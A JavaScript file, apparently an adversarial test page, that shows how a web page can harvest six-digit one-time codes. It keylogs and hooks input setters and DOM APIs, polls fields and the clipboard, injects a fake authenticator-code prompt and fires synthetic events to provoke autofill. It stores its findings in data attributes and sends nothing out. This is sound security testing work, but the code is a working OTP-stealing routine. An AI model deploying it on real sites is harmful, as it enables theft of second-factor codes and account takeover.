// What a page can do to learn codes: it hears every key, event, change and message, owns the setters that scripts of its
// own world go through, asks all fields again and again, and calls for more once it has a code. What it has learnt
// stands in `data-codes`, digits that were typed in `data-keys`, the number of its rounds in `data-rounds`.
const codes = new Set(), root = document.documentElement;
let keys = "", rounds = 0;
const note = (text) => {
  for (const [found] of String(text ?? "").matchAll(/\d{6}/g)) codes.add(found);
  root.dataset.codes = [...codes].join();
};
note("");

const EVENTS = "keydown keypress keyup beforeinput input change paste copy cut focus blur focusin focusout select selectionchange submit click message compositionend drop dragstart visibilitychange";
for (const type of EVENTS.split(" "))
  for (const to of [window, document])
    to.addEventListener(type, (event) => {
      if (type === "keydown" && /^\d$/.test(event.key)) root.dataset.keys = keys += event.key;
      for (const part of [event.data, event.key, event.target?.value, event.clipboardData?.getData("text"), event.dataTransfer?.getData("text")]) note(typeof part === "string" ? part : "");
      note(getSelection());
    }, true);

const value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value");
Object.defineProperty(HTMLInputElement.prototype, "value", { ...value, set(text) {
  note(text);
  value.set.call(this, text);
} });
for (const [on, name] of [[Document.prototype, "execCommand"], [HTMLInputElement.prototype, "setRangeText"], [DataTransfer.prototype, "setData"], [Element.prototype, "setAttribute"], [EventTarget.prototype, "dispatchEvent"], [window, "postMessage"], [Storage.prototype, "setItem"]]) {
  const usual = on[name];
  on[name] = function (...given) {
    given.forEach(note);
    return usual.apply(this, given);
  };
}
new MutationObserver((batch) => batch.forEach(({ target, attributeName }) => !attributeName?.startsWith("data-") && note(target.outerHTML ?? target.data)))
  .observe(document, { subtree: true, childList: true, attributes: true, characterData: true });

/** Another field that asks for a code, and everything that could pass for a person's act. */
function callForMore() {
  const more = document.createElement("form");
  more.innerHTML = "<label for=more>One more code from your authenticator app</label><input id=more name=more autocomplete=one-time-code maxlength=6>";
  document.body.append(more);
  more.more.focus();
  for (const to of [more.more, document, window]) {
    for (const type of ["keydown", "keyup"]) to.dispatchEvent(new KeyboardEvent(type, { key: "F", code: "KeyF", altKey: true, shiftKey: true, bubbles: true }));
    for (const type of ["contextmenu", "click", "focus", "fill", "tidekey"]) to.dispatchEvent(new MouseEvent(type, { bubbles: true }));
    to.dispatchEvent(new InputEvent("input", { bubbles: true }));
  }
  document.querySelector("#code").value = "";
}

setInterval(() => {
  const before = codes.size;
  document.querySelectorAll("input").forEach((field) => note(field.value));
  note(document.body.innerText);
  navigator.clipboard?.readText().then(note, () => null);
  root.dataset.rounds = ++rounds;
  if (codes.size && (!before || !document.querySelector("#more"))) callForMore();
}, 15);
